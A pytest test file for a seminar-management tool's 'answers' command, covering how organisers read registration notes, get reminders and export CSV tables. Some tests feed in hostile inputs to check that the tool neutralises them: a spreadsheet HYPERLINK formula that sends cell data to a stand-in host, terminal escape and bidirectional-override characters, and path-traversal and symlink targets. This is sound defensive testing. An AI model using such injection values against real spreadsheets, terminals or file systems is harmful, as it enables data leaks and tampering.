"""Does an organiser read what people wrote, and is told of it until they have?"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from in_process import seminar
from test_next import steps

from seminarkit.core.seminar.folder import SeminarFolder

Send = Callable[[str, Any], Path]
COMES = {"round_1": "no", "round_2": "no", "day_2": "yes"}
NOTE = "A dial-in number would help."


@pytest.fixture
def noted(folder: SeminarFolder, send: Send, filled: Any) -> SeminarFolder:
    """Two people registered, of whom one wrote what they need."""
    note = {**COMES, "registration_note": NOTE}
    send("a.ipynb", filled("registration", "UA-3", note, saved_at="2020-11-11T08:00:00Z"))
    send("b.ipynb", filled("registration", "GE-2", COMES))
    seminar(folder.root, "collect")
    return folder


def whats(folder: SeminarFolder) -> list[str]:
    return [step["what"] for step in steps(folder)]


def test_the_list_counts_what_came(noted: SeminarFolder) -> None:
    """N07"""
    lines = seminar(noted.root, "answers").stdout.splitlines()
    (line,) = [line for line in lines if line.startswith("registration ")]
    assert line.endswith("Registration for the discussion groups: 2 complete")
    assert sum(line.endswith(": none yet") for line in lines) == len(noted.forms) - 1


def test_answers_are_read_person_by_person_in_words(noted: SeminarFolder) -> None:
    """N07: labels, not codes; the country's people in the order of seminar.yml."""
    shown = seminar(noted.root, "answers", "--form", "registration").stdout
    assert shown.index("Georgia, Core participant 2, Georgia (GE-2)") < shown.index("(UA-3)")
    assert NOTE in shown
    assert "Is there anything that would help you to take part?" in shown
    assert "\n      Yes\n" in shown
    only = seminar(noted.root, "answers", "--form", "registration", "--country", "georgia").stdout
    assert "GE-2" in only
    assert "UA-3" not in only


def test_a_question_can_be_read_alone(noted: SeminarFolder) -> None:
    """N07: by those who answered it."""
    shown = seminar(noted.root, "answers", "--question", "registration_note", "--json").stdout
    (entry,) = json.loads(shown)
    assert (entry["person"], entry["form"], entry["late"]) == ("UA-3", "registration", False)
    (answer,) = entry["answers"]
    assert answer["shown"] == NOTE


@pytest.mark.parametrize(
    ("words", "near"),
    [
        (("--form", "regstration"), "Did you mean 'registration'?"),
        (("--question", "registration_notes"), "Did you mean 'registration_note'?"),
        (
            ("--form", "registration", "--question", "trust"),
            "'trust' is not a question that organisers can read in the form",
        ),
        (("--country", "Gorgia"), "Did you mean 'Georgia'?"),
        (
            ("--form", "group_notes", "--question", "scratch"),
            "'scratch' is not a question that organisers can read",
        ),
    ],
)
def test_what_is_not_there_gets_a_near_match(
    folder: SeminarFolder, words: tuple[str, ...], near: str
) -> None:
    """N07 O20"""
    assert near in seminar(folder.root, "answers", *words, code=2).stderr


def test_an_organiser_is_told_until_they_have_looked(
    noted: SeminarFolder, send: Send, filled: Any
) -> None:
    """P11 K03: and told again when somebody else writes."""
    words = "1 person wrote what they need to take part"
    (step,) = [step for step in steps(noted) if step["what"] == words]
    seminar(noted.root, "answers", "--form", "registration", "--country", "UA")
    assert words in whats(noted), "who looked at one country has not looked at all"
    seminar(noted.root, *step["how"].split()[1:])
    assert words not in whats(noted)
    for person in ("GE-1", "GE-3"):
        note = {**COMES, "registration_note": f"A screen reader, {person}."}
        send(f"{person}.ipynb", filled("registration", person, note))
    seminar(noted.root, "collect")
    assert "2 people wrote what they need to take part" in whats(noted)


def test_a_neo_who_does_not_sign_is_named_until_they_do(
    folder: SeminarFolder, send: Send, filled: Any
) -> None:
    """P11 E06: with the remark, without codes that a terminal would obey."""
    remark = "Please wait for\nthe \x1b[31myear\u202e of the law."
    answers = {"signed_receipt": "ME-7K3F", "signed_final": "no", "signed_remark": remark}
    send("s.ipynb", filled("sign_off", "ME-NEO", answers))
    seminar(folder.root, "collect")
    (step,) = [step for step in steps(folder) if "did not sign" in step["what"]]
    assert step["what"].startswith("Montenegro’s NEO did not sign, with a remark: Please wait for")
    shown = seminar(folder.root, *step["how"].split()[1:]).stdout
    assert "year" in shown
    assert not set("\x1b\u202e") & set(shown + step["what"])
    assert step["what"] in whats(folder)
    signed = {"signed_receipt": "ME-7K3F", "signed_final": "yes"}
    send("t.ipynb", filled("sign_off", "ME-NEO", signed, rev=9, saved_at="2020-11-12T10:00:00Z"))
    seminar(folder.root, "collect")
    assert step["what"] not in whats(folder)


def test_answers_are_written_as_tables(folder: SeminarFolder, send: Send, filled: Any) -> None:
    """O36: a file for each form that came and each repeated question; a formula is a text."""
    rows = [{"about": "ghent", "question": '=HYPERLINK("http://a.example/"&A1)'}]
    send("q.ipynb", filled("questions", "GE-2", {"questions": rows}))
    seminar(folder.root, "collect")
    out = folder.root / "tables"
    assert seminar(folder.root, "answers", "--csv", "tables").stdout == (
        "3 files in tables, for organisers only.\n"
    )
    names = sorted(path.name for path in out.iterdir())
    assert names == ["questions.csv", "questions.questions.csv", "questions.xlsx"]
    text = (out / "questions.questions.csv").read_bytes()
    assert text.startswith(b"\xef\xbb\xbf")
    assert b"\"'=HYPERLINK(" in text


@pytest.mark.parametrize("site", ["public", "core", "groups", "chairs"])
@pytest.mark.parametrize("inside", ["", "/tables/deep", "/../../output/{site}/x"])
def test_tables_do_not_go_where_others_read(noted: SeminarFolder, site: str, inside: str) -> None:
    """O36: all answers in a folder that is sent or served would be read by others."""
    target = f"output/{site}{inside.format(site=site)}"
    before = sorted(noted.root.rglob("*.csv"))
    refused = seminar(noted.root, "answers", "--csv", target, code=2).stderr
    assert f"is in output/{site}, which" in " ".join(refused.split())
    assert "seminar answers --csv tables" in " ".join(refused.split())
    assert sorted(noted.root.rglob("*.csv")) == before
    (noted.root / "output" / site).mkdir(parents=True, exist_ok=True)
    (noted.root / "way").symlink_to(noted.root / "output" / site)
    seminar(noted.root, "answers", "--csv", "way/x", code=2)


def test_an_answer_that_is_not_asked_any_more_is_named_and_not_shown(
    folder: SeminarFolder, send: Send, filled: Any
) -> None:
    """P11: whether it was private nobody knows, so that it stays in the file."""
    send("r.ipynb", filled("registration", "GE-2", {**COMES, "old_question": "Kept words."}))
    seminar(folder.root, "collect")
    shown = seminar(folder.root, "answers", "--form", "registration").stdout
    assert "no longer asked: old_question" in shown
    assert "Kept words." not in shown
